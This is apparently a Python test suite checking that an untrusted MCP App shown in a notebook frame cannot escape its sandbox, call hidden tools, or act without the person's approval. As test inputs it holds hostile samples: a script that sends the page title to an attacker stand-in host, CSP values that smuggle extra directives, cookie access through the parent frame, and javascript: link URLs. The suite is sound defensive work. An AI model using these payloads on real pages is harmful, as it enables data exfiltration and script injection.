"""A server's MCP App tries to reach past its frame; each attempt is stopped before the browser sees it.

The app is untrusted HTML shown in a page that holds the person's kernels. These are the kernel's
decisions (what the frame is given, what the app's requests get); the browser's side of the same
attacks is ``test_app_escapes_its_frame_in_jupyterlab.py``.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import mcp_notebook
from mcp_notebook.client._apps import App
from mcp_notebook.client._results import CallResult
from mcp_notebook.core._app_frame import policy, srcdoc
from mcp_notebook.widgets import AppView

SERVER = Path(__file__).parents[1] / "servers" / "apps.py"
STDIO = f'"{sys.executable}" "{SERVER}"'


def view_of(html: str = "<p>app</p>", **ui: Any) -> AppView:
    app = App(uri="ui://x/app.html", html=html, csp=ui.get("csp", {}), permissions=ui.get("permissions", {}))
    return AppView(CallResult(tool="x", content=[], app=app))


def ask(view: AppView, request_id: int, method: str, params: dict[str, Any]) -> None:
    view.frame._handle_custom_msg(
        {"kind": "request", "generation": "v-1", "id": request_id, "method": method, "params": params}, []
    )
    view.handled[-1].result(30)


def test_a_script_written_before_the_head_runs_under_the_policy() -> None:
    # The parser moves a script before <head> into the head: a policy put after the app's own
    # <head> tag would come too late for it.
    document = "<script>fetch('https://evil.example/?'+document.title)</script><html><head></head></html>"
    made = srcdoc(document, policy(None))
    assert made.index("Content-Security-Policy") < made.index("<script")
    assert made.index("Content-Security-Policy") < made.lower().index(
        "<head>", len("<!DOCTYPE html><html>") + 1
    )


def test_declared_domains_cannot_add_sources_or_directives() -> None:
    hostile = {
        "connectDomains": ["*", "https://a.example; script-src *", "https://a.example 'unsafe-eval'"],
        "resourceDomains": ["https:", "data:", "'unsafe-inline' 'unsafe-eval'", "https://*"],
        "frameDomains": ["https://a.example;frame-ancestors *"],
        "baseUriDomains": ["javascript:"],
    }
    text = policy(hostile).text
    assert "*" not in text
    assert "unsafe-eval" not in text
    assert text.count("script-src") == 1 and "frame-ancestors" not in text
    assert "connect-src 'none'" in text and "base-uri 'none'" in text


def test_the_frame_never_shares_the_pages_origin() -> None:
    view = view_of(html="<script>parent.document.cookie</script>")
    assert view.frame.sandbox == "allow-scripts"
    assert "allow-same-origin" not in view.frame.sandbox
    # The front end applies nothing else, whatever the kernel's state says.
    script = (Path(mcp_notebook.__file__).parent / "widgets" / "_app.js").read_text()
    assert "return value === SANDBOX ? value : SANDBOX;" in script


def test_permissions_are_not_granted_by_asking() -> None:
    view = view_of(permissions={"camera": {}, "microphone": {}, "geolocation": {}})
    assert view.frame.allow == ""
    assert view.frame.granted == {}


def test_a_link_cannot_run_script_in_the_page() -> None:
    view = view_of()
    for url in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>1</script>",
        "vbscript:x",
    ):
        ask(view, 1, "ui/open-link", {"url": url})
    assert view.frame.notes == []
    assert {answer["error"]["code"] for answer in view.answers} == {-32602}


def test_an_app_cannot_call_a_tool_hidden_from_apps() -> None:
    result = mcp_notebook.call("weather", {"city": "Seoul"}, stdio=STDIO)
    view = result.view().app_view
    ask(view, 1, "tools/call", {"name": "secret", "arguments": {}})
    assert view.pending == [] and view.calls[-1]["outcome"] == "refused"
    assert "the secret" not in str(view.answers)


def test_an_app_call_does_not_run_before_the_person_approves() -> None:
    result = mcp_notebook.call("weather", {"city": "Seoul"}, stdio=STDIO)
    view = result.view().app_view
    ask(view, 1, "tools/call", {"name": "refresh", "arguments": {"city": "Busan"}})
    [pending] = view.pending
    assert pending.decision is None and view.answers == []
    assert view.calls[-1]["outcome"] == "asked"


def test_an_app_of_one_result_calls_only_the_server_it_came_from() -> None:
    # The app's calls go to its own result's server: a result from elsewhere has no way to the kernel.
    view = view_of()
    ask(view, 1, "tools/call", {"name": "anything", "arguments": {}})
    assert view.pending == [] and view.calls[-1]["outcome"] == "refused"


def test_an_app_asking_in_a_loop_buries_no_prompt() -> None:
    result = mcp_notebook.call("weather", {"city": "Seoul"}, stdio=STDIO)
    view = result.view().app_view
    for request_id in range(12):
        ask(view, request_id, "tools/call", {"name": "refresh", "arguments": {"city": "Busan"}})
    assert len(view.pending) == 5 and len(view.calls_box.children) == 5  # each with its buttons
    assert [answer["error"]["code"] for answer in view.answers] == [-32000] * 7
    view.pending[0].deny()  # once the person decides one, the app may ask again
    ask(view, 99, "tools/call", {"name": "refresh", "arguments": {"city": "Busan"}})
    assert len(view.pending) == 6 and view.calls[-1]["outcome"] == "asked"
